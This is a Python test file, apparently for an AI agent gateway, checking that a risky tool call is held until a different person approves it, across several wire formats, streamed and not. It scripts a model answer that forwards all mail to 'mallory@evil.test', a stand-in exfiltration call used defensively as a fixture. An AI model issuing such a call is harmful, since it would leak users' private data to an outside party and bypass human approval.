"""A held call through a running gate, in three wire formats, streamed and not: another person's yes lets it pass."""

from __future__ import annotations

import json
import re
import urllib.request
from pathlib import Path

from stockade.app import open_store
from stockade.core.principal import Role
from stockade.testing.vendor.script import Answer, Rule, ToolCall
from tests.clients.gates import between
from tests.clients.test_control import ask
from tests.guard.pipeline.talks import DIALECTS
from tests.guard.pipeline.test_holds import HOLDS
from tests.guard.pipeline.test_tools import history

FORWARDED = ToolCall("send_email", {"to": "mallory@evil.test", "body": "all"})
ID = re.compile(r"hold-[0-9a-f]{16}")


def post(url: str, key: str, dialect: str, *, streamed: bool) -> str:
    sent = history(dialect, "Summarise the mail", stream=streamed)
    body = json.dumps(json.loads(sent.body) | {"model": "gpt-demo"}).encode()
    headers = {"content-type": "application/json", "authorization": f"Bearer {key}"}
    with urllib.request.urlopen(urllib.request.Request(url + sent.path, body, headers)) as answer:
        return str(answer.read().decode())


def test_a_call_is_held_until_somebody_else_says_yes_and_then_once(tmp_path: Path) -> None:
    with between(tmp_path / "gate", [Rule(Answer(text="I will.", tool_calls=(FORWARDED,)))], HOLDS) as both:
        gate, control = both.gate, both.gate.app.control_url
        store = open_store(gate.settings)
        approver, agent = (store.keys.create(name, roles=[Role.APPROVER]).text for name in ("ann", "agent"))
        approver_id = next(record.id for record in store.keys.list() if record.name == "ann")
        store.close()
        gate.wait_for(lambda: ask(f"{control}/api/me", approver)[0] == ask(f"{control}/api/me", agent)[0] == 200)
        ways = [(dialect, streamed) for dialect in DIALECTS for streamed in (False, True)]
        for dialect, streamed in ways:
            held = post(gate.base_url, agent, dialect, streamed=streamed)
            assert "mallory" not in held
            [id_] = set(ID.findall(held))
            path = f"{control}/api/approvals/{id_}"
            assert ask(f"{path}/approve", agent, {})[0] == 403
            status, shown = ask(path, approver)
            assert (status, shown["shown"]["tool"]) == (200, "send_email")
            assert id_ in post(gate.base_url, agent, dialect, streamed=streamed)
            status, link = ask(f"{path}/link", approver, {})
            assert ask(f"{link['url']}/approve", agent, {})[0] == 403
            assert ask(f"{link['url']}/approve", approver, {})[0] == 200
            assert ask(f"{link['url']}/approve", approver, {})[0] == 409
            passed = post(gate.base_url, agent, dialect, streamed=streamed)
            assert not ID.findall(passed)
            assert "send_email" in passed
            assert id_ in post(gate.base_url, agent, dialect, streamed=streamed)
        told = gate.wait_for(
            lambda: [found for found in [gate.records("event")] if _count(found, "approval_approved") == len(ways)]
        )[0]
        assert _count(told, "approval_used") == len(ways)
        assert _count(told, "approval_held") == 3 * len(ways)
        assert {event["by"] for event in told if event["event"] == "approval_approved"} <= {approver_id}
        assert "mallory" not in gate.log + str(gate.records())


def _count(records: list[dict[str, object]], name: str) -> int:
    return sum(record["event"] == name for record in records)
